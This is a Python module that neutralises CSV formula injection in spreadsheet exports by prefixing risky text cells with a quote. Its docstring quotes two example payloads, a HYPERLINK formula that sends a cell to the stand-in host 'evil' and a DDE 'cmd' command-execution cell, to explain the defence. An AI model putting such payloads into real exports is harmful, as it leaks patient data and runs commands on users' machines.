"""CSV cells that a spreadsheet cannot run as formulas (OWASP "CSV injection").

Excel, LibreOffice and Google Sheets treat a cell that starts with ``=``, ``+``, ``-`` or ``@``
(and, in some versions, with a tab or carriage return) as a formula: a patient id such as
``=HYPERLINK("http://evil/?"&A1,"open")`` or ``+cmd|' /C calc'!A0`` in a CSV we write would
run when a clinician opens the file.  Following OWASP, such text cells are written with a
leading single quote, which the spreadsheets show as text and do not evaluate.

Only *text* cells are changed: numeric columns stay numbers, and a text cell that is a plain
number (``-12``, ``+3.5``, ``1e-3``) is left alone, since a spreadsheet reads it as that
number and nothing else.  The functions are pure and have no project dependencies, so every
writer of CSV (the service's ``/batch``, the CLI's ``score.csv`` and ``outcomes.csv``) can
use them.
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

if TYPE_CHECKING:  # pandas only for the annotation: the cell function needs nothing
    import pandas as pd

#: The first characters that make a spreadsheet evaluate a cell.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def neutralise_cell(value: str) -> str:
    """``value`` with a leading ``'`` if a spreadsheet would evaluate it as a formula."""
    if value.startswith(FORMULA_PREFIXES) and _PLAIN_NUMBER.fullmatch(value) is None:
        return "'" + value
    return value


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells are passed through :func:`neutralise_cell`.

    Numeric, boolean and missing cells are untouched; so are the column names unless they
    are text that would be evaluated (a header row is a row of cells too).
    """
    import pandas as pd
    from pandas.api.types import is_object_dtype, is_string_dtype

    out = frame.copy()
    for col in out.columns:
        cells = out[col]
        if not (is_object_dtype(cells.dtype) or is_string_dtype(cells.dtype)):
            continue  # numbers, booleans, dates: a spreadsheet reads them as values
        values = cells.to_numpy(dtype=object)
        risky = [isinstance(v, str) and v.startswith(FORMULA_PREFIXES) for v in values]
        if any(risky):
            values = values.copy()
            for i in (i for i, r in enumerate(risky) if r):
                values[i] = neutralise_cell(values[i])
            out[col] = pd.Series(values, index=cells.index, dtype=cells.dtype)
    out.columns = [neutralise_cell(c) if isinstance(c, str) else c for c in out.columns]
    return out
